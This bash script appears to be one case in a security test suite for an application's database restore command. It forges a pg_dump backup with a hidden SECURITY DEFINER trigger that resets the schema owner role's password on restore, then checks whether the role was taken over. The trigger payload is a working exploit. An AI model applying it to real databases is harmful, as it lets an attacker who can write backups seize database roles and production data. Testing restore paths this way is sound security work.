#!/usr/bin/env bash
# PostgreSQL: a pg_dump backup made hostile by someone who can write the backup storage. Restored as documented
# (`db restore --from FILE --db postgresql://<schema owner>@…/newdb`), its extra trigger runs as the schema owner
# (SECURITY DEFINER, owned by whoever restores: --no-owner) on the restore's own event and changes the schema owner
# ROLE itself — which also owns the production register in another database.
NAME=09-pg-dump
source "$(dirname "$0")/common.sh"
pg_up || exit 1
say "the attacker's own register (any server), with a trigger added by hand, dumped with pg_dump -Fc"
pg_newdb atk09src; DB=$DB_OWNER; APPROLE=tirkeu_app
setup || exit 1
psql -q -d atk09src -U tirkeu_owner -v ON_ERROR_STOP=1 <<'SQL'
CREATE FUNCTION public.zz_on_write() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$
BEGIN
  EXECUTE 'ALTER ROLE ' || quote_ident(current_user) || ' PASSWORD ''owned-by-the-backup''';
  RETURN NEW;
END $$;
CREATE TRIGGER zz_on_write AFTER INSERT ON public.audit_events FOR EACH ROW EXECUTE FUNCTION public.zz_on_write();
SQL
pg_dump -Fc -h 127.0.0.1 -p $PGPORT -U tirkeu_owner -d atk09src -f "$W/evil.dump" && ls -l "$W/evil.dump"
psql -q -d postgres -c "DROP DATABASE atk09src" 
say "the victim: production register prod09 owned by tirkeu_owner; role password before"
pg_newdb atk09prod; DB=$DB_OWNER; SRCW=$W; W=$W/prod; mkdir -p $W; setup >/dev/null || { echo "prod setup failed"; exit 1; }; W=$SRCW
psql -At -d postgres -c "SELECT rolname, coalesce(left(rolpassword,14),'(none)') FROM pg_authid WHERE rolname='tirkeu_owner'"
say "the administrator restores the backup into a new database, as the documentation says"
psql -q -d postgres -c "DROP DATABASE IF EXISTS atk09new" -c "CREATE DATABASE atk09new OWNER tirkeu_owner"
DB="postgresql://tirkeu_owner@127.0.0.1:$PGPORT/atk09new"
as admin db restore --from "$W/evil.dump"; show $?
say "the schema owner role afterwards (it also owns atk09prod)"
psql -At -d postgres -c "SELECT rolname, coalesce(left(rolpassword,14),'(none)') FROM pg_authid WHERE rolname='tirkeu_owner'"
psql -At -d atk09new -c "SELECT count(*)||' extra trigger(s) zz_on_write in the restored register' FROM pg_trigger WHERE tgname='zz_on_write'"
as aud audit verify; show $?
say "(b) the same file restored by someone whose sign-in FAILS (the backup's admin password unknown)"
psql -q -d postgres -c "ALTER ROLE tirkeu_owner PASSWORD NULL" -c "DROP DATABASE IF EXISTS atk09new2" -c "CREATE DATABASE atk09new2 OWNER tirkeu_owner"
DB="postgresql://tirkeu_owner@127.0.0.1:$PGPORT/atk09new2"
echo "not-the-password" >"$W/wrong.pw"; chmod 600 "$W/wrong.pw"
cli --as admin --password-file "$W/wrong.pw" db restore --from "$W/evil.dump"; show $?
psql -At -d postgres -c "SELECT rolname, coalesce(left(rolpassword,14),'(none)') FROM pg_authid WHERE rolname='tirkeu_owner'"
